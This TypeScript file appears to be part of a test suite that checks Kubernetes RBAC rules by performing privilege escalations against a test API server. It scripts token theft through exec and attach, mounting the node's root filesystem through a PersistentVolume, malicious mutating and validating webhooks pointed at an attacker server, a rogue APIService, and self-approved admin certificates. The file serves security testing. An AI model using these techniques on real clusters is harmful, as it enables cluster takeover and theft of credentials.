import { execFileSync } from 'node:child_process'
import { type AttackerServer, openAttackerServer } from './attacker-server.ts'
import { bind, eventually } from './cluster-cast.ts'
import {
  type Cast,
  clusterAdmin,
  type ClusterPerformance,
  everySecret,
  inNamespace,
  makeBinding,
  podOf,
  strong,
  tokenOf,
  workloadScene,
} from './cluster-performances.ts'
import { type Kubernetes, kubernetesAs, refusalOf } from './stage.ts'
import { openStandInKubelet, type StandInKubelet, streamOf } from './stand-in-kubelet.ts'
import { workloadPerformances } from './workload-performances.ts'

type Fields = { readonly [name: string]: unknown }

const rbac = 'rbac.authorization.k8s.io'
const admission = '/apis/admissionregistration.k8s.io/v1'
const strongPod = ({ namespace }: Cast) => `demo:pod:${namespace}/strong-pod`
const mayReadSecrets = (as: Kubernetes) =>
  eventually('every secret is read', async () => (await refusalOf(() => everySecret(as))) === undefined)

let kubelet: StandInKubelet

/** The node of the pods, whose API the test plays. */
export async function openNode(operator: Kubernetes): Promise<void> {
  kubelet = await openStandInKubelet()
  const node = { apiVersion: 'v1', kind: 'Node', metadata: { name: 'node-1' } }
  await operator('POST', '/api/v1/nodes', node)
  const status = {
    addresses: [{ type: 'InternalIP', address: '127.0.0.1' }],
    daemonEndpoints: { kubeletEndpoint: { Port: kubelet.port } },
  }
  await operator('PATCH', '/api/v1/nodes/node-1/status', { status })
}

const servers = new Map<string, AttackerServer>()

export const closeNodeAndServers = async (): Promise<void> => {
  await kubelet?.close()
  for (const server of servers.values()) await server.close()
}

async function serverOf({ namespace }: Cast, answer: (body: Fields) => object): Promise<AttackerServer> {
  // As the aggregation layer calls the service that an API is at.
  const server = await openAttackerServer(answer, `mine.${namespace}.svc`)
  servers.set(namespace, server)
  return server
}

const stream = (method: 'GET' | 'POST', subresource: 'exec' | 'attach'): ClusterPerformance => ({
  target: 'strong-pod',
  goal: strongPod,
  prepare: strong,
  async act(_, cast) {
    kubelet.output = await tokenOf(cast)
    const command = subresource === 'exec' ? '&command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token' : ''
    const path = `${inNamespace(cast)}/pods/strong-pod/${subresource}?container=main&stdout=true${command}`
    const token = await streamOf(cast.cluster, cast.client, method, path)
    const words = `/${subresource}/${cast.namespace}/strong-pod/main`
    if (!kubelet.paths.some(each => each.startsWith(words))) throw new Error(`the node was not asked for ${words}`)
    await everySecret(kubernetesAs(cast.cluster, token))
  },
})

const webhook = (server: Pick<AttackerServer, 'url' | 'caBundle'>, group: string, resource: string) => ({
  name: 'hook.attacker.example',
  clientConfig: { url: server.url, caBundle: server.caBundle },
  rules: [{ operations: ['CREATE'], apiGroups: [group], apiVersions: ['v1'], resources: [resource] }],
  admissionReviewVersions: ['v1'],
  sideEffects: 'None',
  failurePolicy: 'Ignore',
})

const configuration = (kind: string, { namespace }: Cast, webhooks: readonly object[]) => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind,
  metadata: { name: `${namespace}-hook` },
  webhooks,
})

const review = (body: Fields, response: object) => ({
  apiVersion: 'admission.k8s.io/v1',
  kind: 'AdmissionReview',
  response: { uid: (body['request'] as { uid: string }).uid, allowed: true, ...response },
})

/** Adds the attacker's group to whatever binding is made. */
const addingOwnGroup = (cast: Cast) => (body: Fields) => {
  const patch = [{ op: 'add', path: '/subjects/-', value: { apiGroup: rbac, kind: 'Group', name: cast.group } }]
  return review(body, { patchType: 'JSONPatch', patch: Buffer.from(JSON.stringify(patch)).toString('base64') })
}

/** An administrator binds somebody else, until the webhook has been asked: the API server takes a moment to see a configuration. */
async function administratorBinds(cast: Cast): Promise<void> {
  let bindings = 0
  await eventually('the attacker is bound by what an administrator writes', async () => {
    const made = await makeBinding(cast.operator, cast, `ops-${++bindings}`, { kind: 'User', name: 'ops' })
    return (made['subjects'] as { name: string }[]).some(({ name }) => name === cast.group)
  })
}

const removed = (plural: string) => async (cast: Cast) => {
  await cast.operator('DELETE', `${admission}/${plural}/${cast.namespace}-hook`).catch(() => undefined)
}

const user = 'jane'
const signer = 'kubernetes.io/kube-apiserver-client'
const certificates = '/apis/certificates.k8s.io/v1/certificatesigningrequests'

/** A certificate request for an administrator's name, as PEM. */
const certificateRequest = () =>
  execFileSync('openssl', [
    'req',
    '-new',
    '-newkey',
    'ec',
    '-pkeyopt',
    'ec_paramgen_curve:prime256v1',
    '-nodes',
    '-keyout',
    '/dev/null',
    '-subj',
    `/CN=${user}`,
  ])

const volume = (cast: Cast) => ({
  apiVersion: 'v1',
  kind: 'PersistentVolume',
  metadata: { name: `${cast.namespace}-root` },
  spec: {
    capacity: { storage: '1Gi' },
    accessModes: ['ReadWriteOnce'],
    storageClassName: '',
    hostPath: { path: '/' },
    claimRef: { namespace: cast.namespace, name: 'root' },
  },
})

const claim = (cast: Cast) => ({
  apiVersion: 'v1',
  kind: 'PersistentVolumeClaim',
  metadata: { name: 'root' },
  spec: {
    accessModes: ['ReadWriteOnce'],
    storageClassName: '',
    volumeName: `${cast.namespace}-root`,
    resources: { requests: { storage: '1Gi' } },
  },
})

/** How rules are performed that take a real API server. */
export const controlPlanePerformances: Readonly<Record<string, ClusterPerformance>> = {
  ...workloadPerformances(['replicationcontrollers'], workloadScene),
  'kubernetes-exec': stream('POST', 'exec'),
  'kubernetes-exec-websocket': stream('GET', 'exec'),
  'kubernetes-attach': stream('POST', 'attach'),
  'kubernetes-attach-websocket': stream('GET', 'attach'),
  'kubernetes-ephemeral-containers': {
    target: 'strong-pod',
    goal: strongPod,
    prepare: strong,
    async act(me, cast) {
      const ephemeralContainers = [{ name: 'mine', image: 'attacker/image', targetContainerName: 'main' }]
      const pod = await me('PATCH', `${inNamespace(cast)}/pods/strong-pod/ephemeralcontainers`, { spec: { ephemeralContainers } })
      if (!JSON.stringify(pod['spec']).includes('attacker/image')) throw new Error('the pod has no such container')
    },
  },
  'kubernetes-create-persistent-volumes': {
    goal: () => 'demo:node:node-1',
    async prepare(cast) {
      await strong(cast)
      await cast.operator('PATCH', `/api/v1/namespaces/${cast.namespace}`, {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'baseline' } },
      })
      const rules = [{ verbs: ['create'], apiGroups: [''], resources: ['pods', 'persistentvolumeclaims'] }]
      await bind(cast, cast.namespace, rules, `${cast.namespace}-pods`)
    },
    async act(me, cast) {
      await me('POST', '/api/v1/persistentvolumes', volume(cast))
      await me('POST', `${inNamespace(cast)}/persistentvolumeclaims`, claim(cast))
      const mounting = (source: object) =>
        podOf('root', {
          containers: [{ name: 'main', image: 'busybox', volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
          volumes: [{ name: 'host', ...source }],
        })
      const direct = await refusalOf(() => me('POST', `${inNamespace(cast)}/pods`, mounting({ hostPath: { path: '/' } })))
      if (direct !== 'status 403') throw new Error('the namespace lets the paths of nodes be mounted anyway')
      await me('POST', `${inNamespace(cast)}/pods`, mounting({ persistentVolumeClaim: { claimName: 'root' } }))
    },
  },
  'kubernetes-mutating-webhook': {
    goal: clusterAdmin,
    async act(me, cast) {
      const server = await serverOf(cast, addingOwnGroup(cast))
      const hook = webhook(server, rbac, 'clusterrolebindings')
      await me('POST', `${admission}/mutatingwebhookconfigurations`, configuration('MutatingWebhookConfiguration', cast, [hook]))
      await administratorBinds(cast)
      await mayReadSecrets(me)
    },
    restore: removed('mutatingwebhookconfigurations'),
  },
  'kubernetes-patch-mutating-webhook': {
    goal: clusterAdmin,
    async prepare(cast) {
      const server = await serverOf(cast, body => review(body, {}))
      const hook = webhook(server, rbac, 'clusterrolebindings')
      const path = `${admission}/mutatingwebhookconfigurations`
      await cast.operator('POST', path, configuration('MutatingWebhookConfiguration', cast, [hook]))
    },
    async act(me, cast) {
      await servers.get(cast.namespace)?.close()
      const server = await serverOf(cast, addingOwnGroup(cast))
      const webhooks = [webhook(server, rbac, 'clusterrolebindings')]
      await me('PATCH', `${admission}/mutatingwebhookconfigurations/${cast.namespace}-hook`, { webhooks })
      await administratorBinds(cast)
      await mayReadSecrets(me)
    },
    restore: removed('mutatingwebhookconfigurations'),
  },
  'kubernetes-validating-webhook': {
    goal: clusterAdmin,
    prepare: strong,
    async act(me, cast) {
      const server = await serverOf(cast, body => review(body, {}))
      const hook = webhook(server, '', 'secrets')
      await me('POST', `${admission}/validatingwebhookconfigurations`, configuration('ValidatingWebhookConfiguration', cast, [hook]))
      const data = { token: Buffer.from(await tokenOf(cast)).toString('base64') }
      let secrets = 0
      await eventually('a secret is seen', async () => {
        const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: `admin-${++secrets}` }, data }
        await cast.operator('POST', `${inNamespace(cast)}/secrets`, secret)
        return server.bodies.length > 0
      })
      const [seen] = server.bodies as readonly { request: { object: { data: { token: string } } } }[]
      const token = Buffer.from(seen?.request.object.data.token ?? '', 'base64').toString()
      await everySecret(kubernetesAs(cast.cluster, token))
    },
    restore: removed('validatingwebhookconfigurations'),
  },
  'kubernetes-register-api-service': {
    goal: clusterAdmin,
    async prepare(cast) {
      await strong(cast)
      const spec = { type: 'ExternalName', externalName: 'localhost' }
      await cast.operator('POST', `${inNamespace(cast)}/services`, { apiVersion: 'v1', kind: 'Service', metadata: { name: 'mine' }, spec })
    },
    async act(me, cast) {
      const group = `${cast.namespace}.example.com`
      const server = await serverOf(cast, () => ({ kind: 'APIResourceList', apiVersion: 'v1', groupVersion: `${group}/v1`, resources: [] }))
      await me('POST', '/apis/apiregistration.k8s.io/v1/apiservices', {
        apiVersion: 'apiregistration.k8s.io/v1',
        kind: 'APIService',
        metadata: { name: `v1.${group}` },
        spec: {
          group,
          version: 'v1',
          groupPriorityMinimum: 1000,
          versionPriority: 10,
          caBundle: server.caBundle,
          service: { namespace: cast.namespace, name: 'mine', port: server.port },
        },
      })
      const token = await tokenOf(cast)
      await eventually('an administrator calls the API', async () => {
        await cast.operator('POST', `/apis/${group}/v1/vaults`, { token }).catch(() => undefined)
        return server.bodies.some(body => body['token'] === token)
      })
      await everySecret(kubernetesAs(cast.cluster, token))
    },
    restore: async ({ operator, namespace }) => {
      await operator('DELETE', `/apis/apiregistration.k8s.io/v1/apiservices/v1.${namespace}.example.com`).catch(() => undefined)
    },
  },
  'kubernetes-approve-certificate': {
    goal: clusterAdmin,
    prepare: cast => makeBinding(cast.operator, cast, user, { kind: 'User', name: user }),
    async act(me, cast) {
      const made = await me('POST', certificates, {
        apiVersion: 'certificates.k8s.io/v1',
        kind: 'CertificateSigningRequest',
        metadata: { name: `${cast.namespace}-admin` },
        spec: { request: certificateRequest().toString('base64'), signerName: signer, usages: ['client auth'] },
      })
      const conditions = [{ type: 'Approved', status: 'True', reason: 'Mine' }]
      await me('PUT', `${certificates}/${cast.namespace}-admin/approval`, { ...made, status: { conditions } })
      const kept = await cast.operator('GET', `${certificates}/${cast.namespace}-admin`)
      if (!JSON.stringify(kept['status']).includes('Approved')) throw new Error('the request is not approved')
    },
  },
}
